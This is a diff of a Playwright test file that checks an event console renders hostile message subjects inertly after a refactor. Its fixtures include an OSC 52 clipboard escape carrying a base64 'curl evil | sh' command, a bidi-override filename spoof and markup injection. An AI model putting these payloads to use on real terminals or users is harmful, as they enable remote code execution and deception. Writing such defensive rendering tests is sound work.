@@ -10,11 +10,12 @@ from __future__ import annotations
 
 import os
 import unicodedata
+from collections.abc import AsyncIterator
 from pathlib import Path
 
 import pytest
 from conftest import Receiver, wait_until
-from playwright.async_api import Browser, expect
+from playwright.async_api import Browser, Locator, expect
 
 from bridge.printable import printable
 from bridge.simulator import Simulator
@@ -23,6 +24,7 @@ from bridge.supervisor import Supervisor
 from .conftest import (
     REBOUND,
     TOKEN,
+    Tab,
     base_url,
     console_config,
     inject,
@@ -193,24 +195,29 @@ async def test_a_foreign_origin_and_a_rebinding_host_are_refused(
     assert probe.status == 200
 
 
-async def test_markup_in_a_subject_shows_as_text(
-    bridge: Supervisor, sim: Simulator, browser: Browser
-) -> None:
-    payload = {
-        "event": "message.received",
-        "inbox_id": "inb_demo_support",
-        "message": {"from": f"Mallory {MARKUP} <m@example.org>", "subject": MARKUP},
-    }
+async def rendered_then_redrawn(
+    bridge: Supervisor, sim: Simulator, browser: Browser, message: dict[str, str]
+) -> AsyncIterator[tuple[Tab, Locator]]:
+    """The console showing one event of ``message``: its tab and the event's row as the server
+    rendered it, then again as the script redraws it once the stream brings another event."""
+    payload = {"event": "message.received", "inbox_id": "inb_demo_support", "message": message}
     (event_id,) = await inject(sim, payload=payload)
     await wait_until(lambda: bridge.dispatcher.workers["audit"].state.delivered == 1)
     tab = await open_tab(browser, base_url(bridge) + "/")
-    page = tab.page
-    row = page.locator(f'tr.event[data-event-id="{event_id}"]')
-    # As the server rendered it, then as the script renders it once the stream brings news.
+    row = tab.page.locator(f'tr.event[data-event-id="{event_id}"]')
     for rows in (1, 2):
         if rows == 2:
             await inject(sim)
-        await expect(page.locator("tr.event")).to_have_count(rows)
+        await expect(tab.page.locator("tr.event")).to_have_count(rows)
+        yield tab, row
+
+
+async def test_markup_in_a_subject_shows_as_text(
+    bridge: Supervisor, sim: Simulator, browser: Browser
+) -> None:
+    message = {"from": f"Mallory {MARKUP} <m@example.org>", "subject": MARKUP}
+    async for tab, row in rendered_then_redrawn(bridge, sim, browser, message):
+        page = tab.page
         await expect(row).to_contain_text(MARKUP)
         await expect(page.locator("#events-body script, #events-body img")).to_have_count(0)
         await row.click()
@@ -228,21 +235,9 @@ async def test_control_and_bidi_characters_show_as_escapes(
     subject = "Invoice \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 due\x00 \u202efdp.exe"
     subject += "\u2066a\u2067b\u2068c\u2069"
     sender = "Eve \u202e<gro.elpmaxe@eve>"
-    payload = {
-        "event": "message.received",
-        "inbox_id": "inb_demo_support",
-        "message": {"from": sender, "subject": subject},
-    }
-    (event_id,) = await inject(sim, payload=payload)
-    await wait_until(lambda: bridge.dispatcher.workers["audit"].state.delivered == 1)
-    tab = await open_tab(browser, base_url(bridge) + "/")
-    page = tab.page
-    row = page.locator(f'tr.event[data-event-id="{event_id}"]')
-    # As the server rendered it, then as the script renders it once the stream brings news.
-    for rows in (1, 2):
-        if rows == 2:
-            await inject(sim)
-        await expect(page.locator("tr.event")).to_have_count(rows)
+    message = {"from": sender, "subject": subject}
+    async for tab, row in rendered_then_redrawn(bridge, sim, browser, message):
+        page = tab.page
         await row.click()
         await expect(page.locator(".detail")).to_contain_text(printable(subject))
         events = await page.locator("#events-body").text_content()
